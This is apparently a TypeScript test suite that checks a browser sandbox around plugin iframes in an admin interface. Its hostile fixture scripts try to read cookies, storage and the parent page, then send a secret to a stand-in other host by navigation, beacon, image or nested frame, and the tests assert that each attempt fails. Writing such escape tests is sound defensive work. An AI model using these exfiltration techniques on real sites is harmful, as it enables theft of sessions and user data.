import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, Frame, Page } from 'playwright-core';
import { build } from 'vite';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { launch } from './harness/browser';
import { STEP_LIMIT } from './harness/patience';

const KIT = readFileSync(join(import.meta.dirname, '../../plugins/kit/cairn-kit.js'), 'utf8');

/** What the server says of a plugin's files (`docs/plugins`), and of the page around them. */
const FRAME_POLICY =
  "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; font-src 'self'; connect-src 'none'; frame-ancestors 'self'; sandbox allow-scripts";

const page = (script: string): string =>
  `<!doctype html><title>x</title><body><p id="out"></p><script src="cairn-kit.js"></script><script src="${script}"></script>`;

/** Scripts of frames. Each writes what it achieved into its page. */
const SCRIPTS: Record<string, string> = {
  'good.js': `cairn.ready.then(async () => { const { data } = await cairn.read({ type: 'plugin::p.x' }); out.textContent = data[0].secret + getComputedStyle(document.documentElement).getPropertyValue('--cairn-text'); });`,
  'file.js': `cairn.ready.then(async () => { const { body, type, name } = await cairn.call('GET', '/file'); out.textContent = [body instanceof ArrayBuffer, new TextDecoder().decode(body), type, name].join(); });`,
  // Each attempt says its name if it worked.
  'thief.js': `cairn.ready.then(async () => {
    const worked = [];
    const attempt = async (name, what) => { try { const value = await what(); if (value !== undefined && value !== null) worked.push(name); } catch {} };
    await attempt('cookie', () => document.cookie || undefined);
    await attempt('storage', () => localStorage);
    await attempt('session', () => sessionStorage);
    await attempt('database', () => indexedDB.open('x') && new Promise((done, no) => { const r = indexedDB.open('x'); r.onsuccess = () => done(1); r.onerror = no; }));
    await attempt('parent', () => parent.document);
    await attempt('top', () => top.document);
    await attempt('fetch', () => fetch('/admin/api/session'));
    await attempt('elsewhere', () => fetch('ELSEWHERE/fetched', { mode: 'no-cors' }));
    // It says that it will, whatever becomes of it: the other site knows.
    navigator.sendBeacon('ELSEWHERE/beacon');
    await attempt('picture', () => new Promise((done, no) => { const i = new Image(); i.onload = () => done(1); i.onerror = no; i.src = 'ELSEWHERE/picture'; }));
    await attempt('eval', () => eval('1'));
    await attempt('popup', () => window.open('ELSEWHERE/popup'));
    await attempt('navigateTop', () => { top.location = 'ELSEWHERE/top'; });
    out.textContent = 'worked: ' + worked.join();
  });`,
  'leaver.js': `cairn.ready.then(async () => { const { data } = await cairn.read({ type: 'plugin::p.x' }); location = 'ELSEWHERE/left?' + data[0].secret; });`,
  'nester.js': `cairn.ready.then(() => { const f = document.createElement('iframe'); f.src = 'ELSEWHERE/nested'; f.onload = () => { out.textContent = 'done'; }; document.body.append(f); });`,
  // Says the first word again, and again from the page it goes on to.
  'twice.js': `cairn.ready.then(async () => { for (const n of [window.nonceOf, '', null]) parent.postMessage({ cairn: 1, hello: n }, '*'); top.postMessage({ cairn: 1, hello: window.nonceOf }, '*'); await heardBy(parent); await heardBy(top); out.textContent = 'welcomes ' + window.welcomes; });`,
  'goer.js': `cairn.ready.then(() => { location.href = 'good.html#cairn=' + window.nonceOf; });`,
  'noise.js': `cairn.ready.then(async () => { const all = []; for (let n = 0; n < 500; n += 1) all.push(cairn.call('GET', '/x').then(() => 'ok', (e) => e.code)); const got = await Promise.all(all); out.textContent = 'busy ' + got.filter((g) => g === 'busy').length; });`,
  // The nonce as a hostile page keeps it, before the kit puts it away; and how to wait until another window has dealt with all that was sent to it.
  'nonce.js': `window.nonceOf = location.hash.slice(7); window.welcomes = 0; addEventListener('message', (e) => { if (e.data && e.data.welcome) window.welcomes += 1; });
    window.heardBy = (who) => new Promise((done) => { const word = Math.random(); addEventListener('message', (e) => { if (e.data && e.data.echo === word) done(); }); who.postMessage({ echo: word }, '*'); });`,
};

declare global {
  interface Window {
    /** In a frame of `nonce.js`. */
    welcomes: number;
    heardBy: (who: Window) => Promise<void>;
  }
}

/** What a frame has written, by looking again and again: its policy forbids what waits by `eval`. */
async function said(frame: Frame): Promise<string> {
  let text = '';
  await expect
    .poll(async () => {
      // On a busy machine the frame may be found before its page is there, which then takes the place of the empty one.
      text = await frame.evaluate(() => document.getElementById('out')?.textContent ?? '').catch(() => '');
      return text;
    })
    .not.toBe('');
  return text;
}

describe('the sandbox of a plugin frame', () => {
  let site: Server;
  let other: Server;
  let browser: Browser;
  let base: string;
  let tab: Page;
  const reached: string[] = [];

  beforeAll(async () => {
    other = createServer((request, response) => {
      reached.push(request.url ?? '');
      response
        .writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' })
        .end('<p>elsewhere</p>');
    });
    await new Promise<void>((done) => other.listen(0, '127.0.0.1', done));
    // Another site, by its name.
    const elsewhere = `http://localhost:${(other.address() as AddressInfo).port}`;
    const built = await build({
      configFile: false,
      logLevel: 'error',
      resolve: { alias: { '@': join(import.meta.dirname, '../src') } },
      // Tests run in a mode of their own, whose JSX only a developer's React knows.
      oxc: { jsx: { runtime: 'automatic', development: false } },
      define: { 'process.env.NODE_ENV': '"production"' },
      build: {
        write: false,
        lib: { entry: join(import.meta.dirname, 'harness/framePage.tsx'), formats: ['iife'], name: 'page' },
      },
    });
    const [bundle] = Array.isArray(built) ? built : [built];
    const script =
      bundle && 'output' in bundle
        ? (bundle.output.find((file) => file.type === 'chunk') as { code: string }).code
        : '';
    site = createServer((request, response) => {
      const path = new URL(request.url ?? '/', 'http://x').pathname;
      if (path === '/admin') {
        // As lenient as that of the admin UI, whose previews lie anywhere.
        response.writeHead(200, {
          'Content-Type': 'text/html',
          'Set-Cookie': 'session=1; Path=/',
          'Content-Security-Policy':
            "default-src 'self'; style-src 'self' 'unsafe-inline'; frame-src 'self' https: http:; frame-ancestors 'none'",
        });
        response.end('<!doctype html><title>admin</title><div id="root"></div><script src="/page.js"></script>');
      } else if (path === '/page.js') response.writeHead(200, { 'Content-Type': 'text/javascript' }).end(script);
      else if (path.startsWith('/admin/plugins/p/frame/')) {
        const name = path.slice('/admin/plugins/p/frame/'.length);
        const js = name.endsWith('.js');
        response.writeHead(200, {
          'Content-Type': js ? 'text/javascript' : 'text/html',
          'Content-Security-Policy': FRAME_POLICY,
          'X-Content-Type-Options': 'nosniff',
        });
        const own = name.replace('.html', '.js');
        response.end(
          js
            ? name === 'cairn-kit.js'
              ? KIT
              : (SCRIPTS[name] ?? '').replaceAll('ELSEWHERE', elsewhere)
            : page(own).replace('<script', '<script src="nonce.js"></script><script'),
        );
      } else response.writeHead(404).end();
    });
    await new Promise<void>((done) => site.listen(0, '127.0.0.1', done));
    base = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
    browser = await launch();
  });

  afterAll(async () => {
    await browser.close();
    site.close();
    other.close();
  });

  beforeEach(async () => {
    reached.length = 0;
    tab = await (await browser.newContext()).newPage();
    tab.setDefaultTimeout(STEP_LIMIT);
    return () => tab.context().close();
  });

  /** Opens a frame; answers it once it has something to say. */
  async function opened(name: string): Promise<Frame> {
    await tab.goto(`${base}/admin?page=${name}.html`);
    await tab.waitForFunction(() => ['ready', 'left'].includes(document.querySelector('main')?.dataset.state ?? ''));
    const found = (): Frame | undefined => tab.frames().find((one) => one.url().includes('/frame/'));
    await expect.poll(async () => found() !== undefined || (await hasLeft())).toBe(true);
    // One that has gone elsewhere is not there any more.
    return found() ?? tab.mainFrame();
  }

  const hasLeft = (): Promise<boolean> => tab.evaluate(() => document.querySelector('main')?.dataset.state === 'left');

  test('a well-behaved frame reads through the kit and looks like the page', async () => {
    expect(await said(await opened('good'))).toBe('s3cret#123456');
    expect(await tab.evaluate(() => window.asked)).toEqual([{ do: 'read', with: { type: 'plugin::p.x' } }]);
  });

  test('a frame is handed a file that its route answers with', async () => {
    expect(await said(await opened('file'))).toBe('true,%PDF,application/pdf,a.pdf');
    // It was not copied.
    expect(await tab.evaluate(() => window.answered?.byteLength)).toBe(0);
  });

  test('a frame has no access to cookies, storage, network or windows, and cannot navigate the page', async () => {
    expect(await said(await opened('thief'))).toBe('worked: ');
    expect(reached).toEqual([]);
    expect(tab.url()).toContain('/admin?page=');
  });

  test('a frame cannot leak data by navigating or through a nested frame', async () => {
    // Both are over when a page has been loaded, be it the browser's own, which takes the place of what is refused.
    await opened('leaver');
    await expect.poll(hasLeft).toBe(true);
    expect(await said(await opened('nester'))).toBe('done');
    expect(reached).toEqual([]);
  });

  test('a frame connects once', async () => {
    expect(await said(await opened('twice'))).toBe('welcomes 1');
  });

  test('a frame that navigated cannot connect again, even with the nonce', async () => {
    await opened('goer');
    await expect.poll(hasLeft).toBe(true);
    const next = (): Frame | undefined => tab.frames().find((frame) => frame.url().includes('good.html'));
    await expect.poll(() => next() !== undefined).toBe(true);
    // Its first word was said while it was loaded: an answer to it would come before this one.
    await next()?.evaluate(() => window.heardBy(window.parent));
    expect(await next()?.evaluate(() => window.welcomes)).toBe(0);
    expect(await tab.evaluate(() => window.asked)).toEqual([]);
  });

  test('a frame that sends requests without end is throttled', async () => {
    const busy = Number((await said(await opened('noise'))).replace('busy ', ''));
    expect(busy).toBeGreaterThan(100);
  });

  test('messages from another window are ignored', async () => {
    await opened('good');
    const popup = await tab.context().newPage();
    await popup.goto(`${base}/admin?page=good.html`);
    const before = await tab.evaluate(() => window.asked.length);
    await tab.evaluate(() => {
      const outer = document.querySelector('iframe')?.contentWindow;
      // From the page itself, which has an origin: as a script that got in would.
      outer?.postMessage({ cairn: 1, hello: 'x' }, '*');
      outer?.dispatchEvent(
        new MessageEvent('message', { data: { cairn: 1, hello: '' }, origin: 'null', source: window }),
      );
    });
    await popup.close();
    expect(await tab.evaluate(() => window.asked.length)).toBe(before);
  });
});
